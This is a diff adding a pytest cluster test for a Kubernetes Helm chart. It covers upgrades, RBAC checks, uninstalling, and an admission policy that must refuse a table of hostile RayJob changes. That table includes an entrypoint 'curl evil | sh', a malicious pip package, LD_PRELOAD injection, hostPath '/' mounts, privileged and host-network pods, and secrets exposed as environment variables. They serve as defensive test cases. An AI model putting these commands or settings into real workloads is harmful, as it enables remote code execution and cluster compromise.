@@ -1,0 +1,338 @@
+"""The chart's whole life on a real cluster: installed in an older version, upgraded, tested, guarded, uninstalled."""
+
+import copy
+import json
+import shutil
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from stepmark.controller.acceptance import Accepted, accept
+from stepmark.controller.actions import manifests
+from stepmark.controller.facts import Capabilities
+from stepmark.controller.profiles import profiles_from_text
+from stepmark.controller.settings import Settings
+
+pytestmark = [pytest.mark.cluster, pytest.mark.timeout(1200)]
+
+ROOT = Path(__file__).parents[2]
+CHART = ROOT / "charts" / "stepmark"
+NAMESPACE = "chart-test"
+DEFINITION = "crd/scenarios.stepmark.dev"
+CONTROLLER = f"system:serviceaccount:{NAMESPACE}:stepmark-controller"
+SCENARIO = {
+    "apiVersion": "stepmark.dev/v1alpha1",
+    "kind": "Scenario",
+    "metadata": {"name": "from-before"},
+    "spec": {
+        "profile": "sandbox",
+        "workload": {"model": "scripted"},
+        "candidates": [{"name": "plain", "engine": "sleeper", "strategy": "parallel"}],
+        "scale": {"workers": [1], "batchPerWorker": 8},
+        "parity": "skipped",
+        "cancel": True,  # it is only there to survive
+    },
+}
+
+
+def values(service: str, runner: str) -> dict[str, Any]:
+    """For one node that has half a core left."""
+    small = {"requests": {"cpu": "20m", "memory": "128Mi"}}
+    profile = {"image": runner, "imagePullPolicy": "Never", "cpuPerWorker": "40m", "memoryPerWorker": "1Gi"}
+    profile |= {"head": {"cpu": "40m", "memory": "2Gi"}, "shmSizeBytes": 268435456, "objectStoreBytes": 134217728}
+    repository, tag = service.split(":")
+    return {
+        "image": {"repository": repository, "tag": tag, "pullPolicy": "Never"},
+        "profiles": {"default": profile, "sandbox": profile},
+        "hub": {"resources": small, "persistence": {"size": "1Gi"}},
+        "controller": {"resources": small},
+    }
+
+
+@dataclass(frozen=True)
+class Release:
+    """The chart in a namespace of its own, with the values that it was installed with."""
+
+    cluster: Any
+    values: Path
+
+    def kubectl(self, *arguments: str, **more: Any) -> str:
+        done = self.cluster.kubectl("--namespace", NAMESPACE, *arguments, **more)
+        assert done.returncode == 0, done.stderr
+        return str(done.stdout)
+
+    def helm(self, verb: str, *arguments: str, **more: Any) -> str:
+        done = self.cluster.helm(verb, "stepmark", "--namespace", NAMESPACE, *arguments, **more)
+        assert done.returncode == 0, done.stdout + done.stderr
+        return str(done.stdout)
+
+    def deploy(self, verb: str, chart: Path, *arguments: str) -> str:
+        options = ("--values", str(self.values), "--take-ownership", "--wait", "--timeout", "240s")
+        return self.helm(verb, str(chart), *options, *arguments)
+
+    def tokens(self) -> dict[str, str]:
+        found: dict[str, str] = json.loads(self.kubectl("get", "secret", "stepmark-tokens", "-o", "json"))["data"]
+        return found
+
+    def columns(self) -> set[str]:
+        found = json.loads(self.kubectl("get", DEFINITION, "-o", "json"))["spec"]["versions"][0]
+        return {column["name"] for column in found["additionalPrinterColumns"]}
+
+    def uid_of(self, kind: str, name: str) -> str:
+        return self.kubectl("get", kind, name, "-o", "jsonpath={.metadata.uid}")
+
+
+def older_chart(folder: Path) -> Path:
+    """The chart as a version before this one: its definition lacks a column."""
+    older = Path(shutil.copytree(CHART, folder / "stepmark"))
+    about = yaml.safe_load((older / "Chart.yaml").read_text()) | {"version": "0.0.9"}
+    (older / "Chart.yaml").write_text(yaml.safe_dump(about))
+    template = older / "templates" / "crd" / "scenarios.yaml"
+    text = template.read_text()
+    column = "    - name: Verdict\n      type: string\n      jsonPath: .status.result.verdict\n      priority: 0\n"
+    assert column in text
+    template.write_text(text.replace(column, ""))
+    return older
+
+
+@pytest.fixture(scope="module")
+def release(cluster: Any, image: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Release]:
+    """The older chart, with a scenario of then. What was not there before is gone after."""
+    service, runner = image("service"), image("runner", "sleeper")
+    cluster.load(service)
+    cluster.load(runner)
+    file = tmp_path_factory.mktemp("values") / "values.yaml"
+    file.write_text(yaml.safe_dump(values(service, runner)))
+    ours = cluster.kubectl("get", DEFINITION).returncode != 0
+    found = Release(cluster, file)
+    found.kubectl("create", "namespace", NAMESPACE)
+    found.kubectl("label", "namespace", NAMESPACE, "pod-security.kubernetes.io/enforce=restricted")
+    try:
+        found.deploy("install", older_chart(tmp_path_factory.mktemp("older")))
+        found.kubectl("create", "--filename", "-", input=json.dumps(SCENARIO))
+        yield found
+    finally:
+        cluster.helm("uninstall", "stepmark", "--namespace", NAMESPACE, "--ignore-not-found")
+        cluster.kubectl("delete", "namespace", NAMESPACE, "--ignore-not-found")
+        if ours:
+            cluster.kubectl("delete", DEFINITION, "--ignore-not-found")
+
+
+@dataclass(frozen=True)
+class Before:
+    tokens: dict[str, str]
+    columns: set[str]
+    volume: str
+    scenario: str
+
+
+@pytest.fixture(scope="module")
+def before(release: Release) -> Before:
+    """What was there when the older chart was, which is then upgraded to this one."""
+    found = Before(
+        release.tokens(),
+        release.columns(),
+        release.uid_of("pvc", "stepmark-hub"),
+        release.uid_of("scenario", "from-before"),
+    )
+    release.deploy("upgrade", CHART)
+    return found
+
+
+def test_an_upgrade_keeps_tokens_results_and_scenarios(release: Release, before: Before) -> None:
+    assert release.tokens() == before.tokens
+    assert release.uid_of("pvc", "stepmark-hub") == before.volume
+    assert release.uid_of("scenario", "from-before") == before.scenario
+
+
+def test_an_upgrade_brings_the_new_definition(release: Release, before: Before) -> None:
+    assert release.columns() - before.columns == {"Verdict"}
+
+
+def test_where_kuberay_is_the_notes_miss_nothing(release: Release, before: Before) -> None:
+    said = release.deploy("upgrade", CHART)
+    assert "MISSING" not in said
+    assert f"helm test stepmark --namespace {NAMESPACE}" in said
+
+
+def test_helm_test_runs_a_scenario_to_its_verdict(release: Release, before: Before) -> None:
+    release.helm("test", "--timeout", "600s", timeout=660)
+    said = release.kubectl("logs", "stepmark-test")
+    assert "plain" in said
+    scenarios = json.loads(release.kubectl("get", "scenarios", "-o", "json"))["items"]
+    (run,) = [one for one in scenarios if one["metadata"]["name"].startswith("helm-test-")]
+    assert run["status"]["phase"] == "Complete"
+
+
+ALLOWED = [
+    ("list", "scenarios.stepmark.dev", ""),
+    ("patch", "scenarios.stepmark.dev", "status"),
+    ("create", "rayjobs.ray.io", ""),
+    ("delete", "rayjobs.ray.io", ""),
+    ("create", "secrets", ""),
+    ("get", "secrets", ""),
+    ("create", "networkpolicies.networking.k8s.io", ""),
+    ("list", "pods", ""),
+    ("create", "leases.coordination.k8s.io", ""),
+]
+DENIED = [
+    ("create", "scenarios.stepmark.dev", ""),
+    ("update", "scenarios.stepmark.dev", ""),
+    ("delete", "scenarios.stepmark.dev", ""),
+    ("update", "rayjobs.ray.io", ""),
+    ("create", "pods", ""),
+    ("create", "pods", "exec"),
+    ("delete", "pods", ""),
+    ("list", "secrets", ""),
+    ("delete", "secrets", ""),
+    ("update", "configmaps", ""),
+    ("create", "serviceaccounts", "token"),
+    ("create", "rolebindings.rbac.authorization.k8s.io", ""),
+]
+
+
+def may(release: Release, verb: str, resource: str, subresource: str, *options: str) -> str:
+    more = (f"--subresource={subresource}",) if subresource else ()
+    done = release.cluster.kubectl("auth", "can-i", verb, resource, *more, f"--as={CONTROLLER}", *options)
+    return str(done.stdout).strip()
+
+
+@pytest.mark.parametrize(("verb", "resource", "subresource"), ALLOWED)
+def test_the_controller_may(release: Release, before: Before, verb: str, resource: str, subresource: str) -> None:
+    assert may(release, verb, resource, subresource, "--namespace", NAMESPACE) == "yes"
+
+
+@pytest.mark.parametrize(("verb", "resource", "subresource"), DENIED)
+def test_the_controller_may_not(release: Release, before: Before, verb: str, resource: str, subresource: str) -> None:
+    assert may(release, verb, resource, subresource, "--namespace", NAMESPACE) == "no"
+
+
+def test_the_controller_may_do_nothing_elsewhere(release: Release, before: Before) -> None:
+    for verb, resource, subresource in ALLOWED:
+        assert may(release, verb, resource, subresource, "--namespace", "default") == "no", (verb, resource)
+
+
+@pytest.fixture(scope="module")
+def guarded(release: Release, before: Before) -> Release:
+    """With the admission policy, once the API server heeds it."""
+    release.deploy("upgrade", CHART, "--set", "policy.admission.enabled=true")
+    deadline = time.monotonic() + 60
+    while submit(release, ray_job(release), user="").returncode == 0:
+        assert time.monotonic() < deadline, "the API server has not heeded the policy for a minute"
+        time.sleep(0.5)
+    return release
+
+
+def ray_job(release: Release) -> dict[str, Any]:
+    """As the controller would make it of these values."""
+    document = copy.deepcopy(SCENARIO) | {"metadata": {"name": "some", "namespace": NAMESPACE, "uid": "0" * 8}}
+    given = yaml.safe_load(release.values.read_text())["profiles"]
+    accepted = accept(document, profiles_from_text(json.dumps(given)))
+    assert isinstance(accepted, Accepted), accepted
+    settings = Settings(profiles_file=Path("/none"), hub_url="http://hub:8080", hub_token_file=Path("/none"))
+    can = Capabilities()
+    return manifests.ray_job(document, 1, accepted.scenario, accepted.profile, can, settings)
+
+
+def submit(release: Release, manifest: dict[str, Any], user: str = CONTROLLER) -> Any:
+    """Ask the API server whether it would take it."""
+    options = (f"--as={user}",) if user else ()
+    return release.cluster.kubectl(
+        "create", "--dry-run=server", "--filename", "-", *options, input=json.dumps(manifest)
+    )
+
+
+def test_the_policy_admits_what_the_controller_makes(guarded: Release) -> None:
+    done = submit(guarded, ray_job(guarded))
+    assert done.returncode == 0, done.stderr
+
+
+def test_the_policy_refuses_the_same_from_anybody_else(guarded: Release) -> None:
+    assert "create a Scenario" in submit(guarded, ray_job(guarded), user="").stderr
+
+
+def test_the_policy_is_for_the_watched_namespaces(guarded: Release) -> None:
+    job = ray_job(guarded)
+    job["metadata"]["namespace"] = "default"
+    assert submit(guarded, job, user="").returncode == 0
+
+
+Change = Callable[[dict[str, Any]], Any]
+
+
+def _pod(job: dict[str, Any], role: str) -> dict[str, Any]:
+    if role == "submitter":
+        return job["spec"]["submitterPodTemplate"]["spec"]
+    cluster = job["spec"]["rayClusterSpec"]
+    group = cluster["headGroupSpec"] if role == "head" else cluster["workerGroupSpecs"][0]
+    return group["template"]["spec"]
+
+
+def of_container(role: str, **changes: Any) -> Change:
+    return lambda job: _pod(job, role)["containers"][0].update(changes)
+
+
+def of_pod(role: str, **changes: Any) -> Change:
+    return lambda job: _pod(job, role).update(changes)
+
+
+def of_job(**changes: Any) -> Change:
+    return lambda job: job["spec"].update(changes)
+
+
+HOSTILE: dict[str, tuple[Change, str]] = {
+    "entrypoint": (of_job(entrypoint="curl evil | sh"), "stepmark's own entrypoint"),
+    "runtime environment": (of_job(runtimeEnvYAML="pip: [evil]"), "without a runtime environment"),
+    "someone's cluster": (of_job(clusterSelector={"ray.io/cluster": "x"}), "Ray cluster of the run's own"),
+    "mode": (of_job(submissionMode="HTTPMode"), "Ray cluster of the run's own"),
+    "no submitter": (lambda job: job["spec"].pop("submitterPodTemplate"), "submitter's pod written out"),
+    "owner": (lambda job: job["metadata"].pop("ownerReferences"), "that a Scenario owns"),
+    **{f"image of {role}": (of_container(role, image="evil"), "images") for role in ("head", "worker", "submitter")},
+    "init container": (of_pod("head", initContainers=[{"name": "a", "image": "evil"}]), "no init containers"),
+    "command": (of_container("worker", command=["sh"]), "no commands"),
+    "lifecycle": (of_container("worker", lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), "no commands"),
+    "environment": (of_container("head", env=[{"name": "LD_PRELOAD", "value": "/tmp/a.so"}]), "no environment but"),
+    "secret as environment": (
+        of_container("head", envFrom=[{"secretRef": {"name": "stepmark-tokens"}}]),
+        "no commands",
+    ),
+    "host path": (of_pod("worker", volumes=[{"name": "tmp", "hostPath": {"path": "/"}}]), "emptyDir"),
+    "projected token": (of_pod("worker", volumes=[{"name": "tmp", "projected": {"sources": []}}]), "emptyDir"),
+    "host network": (of_pod("worker", hostNetwork=True), "without the host's network"),
+    "host processes": (of_pod("head", hostPID=True), "without the host's network"),
+    "privileged": (of_container("worker", securityContext={"privileged": True}), "without privileges"),
+    "no context": (of_container("submitter", securityContext={}), "without privileges"),
+    "token": (of_pod("head", automountServiceAccountToken=True), "without a token of Kubernetes"),
+    "account": (of_pod("head", serviceAccountName="stepmark-controller"), "without a token of Kubernetes"),
+}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_the_policy_refuses_even_the_controller(guarded: Release, what: str) -> None:
+    change, said = HOSTILE[what]
+    job = ray_job(guarded)
+    change(job)
+    done = submit(guarded, job)
+    assert done.returncode != 0
+    assert "ValidatingAdmissionPolicy" in done.stderr
+    assert said in done.stderr
+
+
+def test_uninstalling_keeps_definition_scenarios_and_results_and_installing_takes_them_up(
+    guarded: Release, before: Before
+) -> None:
+    guarded.helm("uninstall", "--wait", "--timeout", "240s")
+    kinds = "deployment,service,secret,configmap,serviceaccount,role,rolebinding,networkpolicy"
+    left = {name.partition("/")[2] for name in guarded.kubectl("get", kinds, "-o", "name").split()}
+    of_tests = {name for name in left if name.startswith(("stepmark-test", "helm-test-"))}  # kept to be looked into
+    assert left - of_tests == {"default", "kube-root-ca.crt"}
+    assert guarded.uid_of("scenario", "from-before") == before.scenario
+    assert guarded.uid_of("pvc", "stepmark-hub") == before.volume
+    guarded.deploy("install", CHART)
+    assert guarded.uid_of("pvc", "stepmark-hub") == before.volume
+    assert guarded.uid_of("scenario", "from-before") == before.scenario
